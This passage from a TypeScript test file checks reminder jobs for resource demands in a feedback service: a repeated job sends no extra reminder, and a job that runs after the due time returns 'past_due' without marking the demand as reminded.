    assert.equal(await reminders(), 1, 'a retried or repeated job sends nothing more');
    // Another demand whose reminder job runs only after its due time (a queue that was down): no reminder.
    const late = (await pub.post('/api/feedback/demands', { title: '迟到提醒需求', targetOrgId: orgs.get('SCJG') })).body;
    const lateDue = (await sql<{ due_at: Date }>`select due_at from resource_demands where id = ${late.id}`.execute(p.ctx.db)).rows[0]!
      .due_at;
    assert.deepEqual(await p.ctx.feedback.fireReminder(`demand:${late.id}`, { at: new Date(lateDue.getTime() + 1000) }), {
      result: 'past_due',
    });
    const { rows } = await sql<{
      reminded: boolean;
    }>`select reminded_at is not null as reminded from resource_demands where id = ${late.id}`.execute(p.ctx.db);
    assert.equal(rows[0]!.reminded, false);
  });
});
